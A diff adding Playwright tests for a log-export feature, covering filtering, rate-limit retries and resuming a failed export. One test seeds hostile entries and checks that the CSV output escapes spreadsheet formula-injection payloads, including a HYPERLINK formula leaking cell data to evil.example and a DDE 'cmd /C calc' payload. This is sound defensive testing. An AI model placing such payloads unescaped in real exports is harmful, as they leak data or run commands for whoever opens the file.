@@ -1,0 +1,95 @@
+import { readFile } from 'node:fs/promises'
+import type { Download, Page } from '@playwright/test'
+import { expect, test } from '../support/test'
+
+async function exports(page: Page, format: 'Table (CSV)' | 'JSON lines'): Promise<void> {
+  await page.getByRole('button', { name: 'Export' }).click()
+  await page.getByRole('menuitem', { name: format }).click()
+}
+
+async function textOf(download: Promise<Download>): Promise<string> {
+  return readFile(await (await download).path(), 'utf8')
+}
+
+/** How many own entries a program counts. */
+const idsOf = (text: string) =>
+  text
+    .trimEnd()
+    .split('\n')
+    .map((line) => Number(/"id":(\d+)/.exec(line)?.[1]))
+
+test.describe('as root', () => {
+  test.use({ caller: 'root' })
+
+  test('every entry of the filter is in the file once, newest first', async ({
+    page,
+    told: _told,
+    world,
+  }) => {
+    await page.goto('/log?type=2')
+    const download = page.waitForEvent('download')
+    await exports(page, 'JSON lines')
+    await expect(page.getByText(/^300 rows exported$/)).toBeVisible()
+    const ids = idsOf(await textOf(download))
+    expect(ids).toHaveLength(300)
+    expect(ids).toEqual([...ids].toSorted((one, other) => other - one))
+    const asked = await world.calls(/GET \/api\/log\/\?/)
+    expect(asked.every((call) => call.includes('type=2'))).toBe(true)
+    await page.getByRole('group', { name: 'Export' }).getByRole('button', { name: 'Close' }).click()
+    await expect(page.getByText(/rows exported/)).toBeHidden()
+  })
+
+  test.describe('with hostile entries', () => {
+    test.use({ seed: 'hostile' })
+
+    test('the table has no formula and no broken line (PC01 to PC15)', async ({ page }) => {
+      await page.goto('/log')
+      const download = page.waitForEvent('download')
+      await exports(page, 'Table (CSV)')
+      const text = await textOf(download)
+      expect(text.startsWith('\uFEFFTime,Channel,User,Token,Type,Model,Prompt,Completion,')).toBe(true)
+      expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"')
+      expect(text).toContain("'-2+3")
+      expect(text).toContain("'@SUM(1)")
+      expect(text).toContain('"\'\r=1"')
+      expect(text).toContain("'=cmd|' /C calc'!A0")
+      expect(text).toContain('"a,b"')
+      expect(text).toContain('"a\nb"')
+      expect(text).toContain('中文')
+      expect(text).not.toMatch(/(^|,|\r\n)"?[=@+]/)
+    })
+  })
+})
+
+test('waits while the server wants it to, and goes on by itself', async ({ page, world }) => {
+  await page.clock.install()
+  await page.goto('/log')
+  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
+  await world.fault({ call: 'GET /api/log/self?p=3', kind: 'F08', times: 1 })
+  const download = page.waitForEvent('download')
+  await exports(page, 'JSON lines')
+  await expect(page.getByText(/Too many requests\. Goes on in \d s\./).first()).toBeVisible()
+  await page.clock.runFor(3000)
+  const text = await textOf(download)
+  expect(text.split('\n').length).toBeGreaterThan(100)
+  expect(await world.calls(/self\?p=2&/)).toHaveLength(1)
+  expect(await world.calls(/self\?p=3&/)).toHaveLength(2)
+})
+
+test('a failure leaves what is written, and it can be gone on with or stopped', async ({ page, world }) => {
+  await page.goto('/log')
+  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
+  await world.fault({ call: 'GET /api/log/self?p=4', kind: 'refused', message: 'not now' })
+  await exports(page, 'JSON lines')
+  await expect(page.getByRole('alert')).toContainText('The export stopped after 40 rows. not now')
+  await world.clearFaults()
+  await world.fault({ call: 'GET /api/log/self?p=6', kind: 'hang' })
+  await page.getByRole('button', { name: 'Go on' }).click()
+  await expect(page.getByText(/^60 rows, back to/)).toBeVisible()
+  await expect(page.getByRole('button', { name: 'Export' })).toHaveAttribute('aria-disabled', 'true')
+  expect(await world.calls(/self\?p=3&/)).toHaveLength(1)
+  await page.getByRole('button', { name: 'Stop the export' }).click()
+  await expect(page.getByRole('group', { name: 'Export' })).toBeHidden()
+  await world.clearFaults()
+  await expect(page.getByRole('button', { name: 'Export' })).not.toHaveAttribute('aria-disabled', 'true')
+})
